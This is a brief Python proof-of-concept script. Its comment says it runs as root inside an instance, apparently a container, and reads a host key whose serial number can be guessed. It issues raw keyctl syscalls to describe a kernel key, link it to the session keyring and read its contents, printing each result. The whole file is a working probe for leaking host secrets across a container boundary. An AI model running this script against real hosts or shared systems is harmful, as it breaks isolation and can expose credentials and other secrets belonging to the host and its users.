# In an instance, as its root: reads a key of the host by its serial number, which could as well be guessed.
import ctypes, errno, platform, sys

libc = ctypes.CDLL(None, use_errno=True)
KEYCTL = {"x86_64": 250, "aarch64": 219}[platform.machine()]
key = int(sys.argv[1])


def keyctl(*words):
    result = libc.syscall(ctypes.c_long(KEYCTL), *(w if isinstance(w, ctypes.Array) else ctypes.c_long(w) for w in words))
    return result, errno.errorcode.get(ctypes.get_errno(), "") if result < 0 else ""


text = ctypes.create_string_buffer(200)
print("describe", keyctl(6, key, text, 200), text.value.decode())
print("link", keyctl(8, key, -3))
print("read", keyctl(11, key, text, 200), text.value.decode())
print("tried")
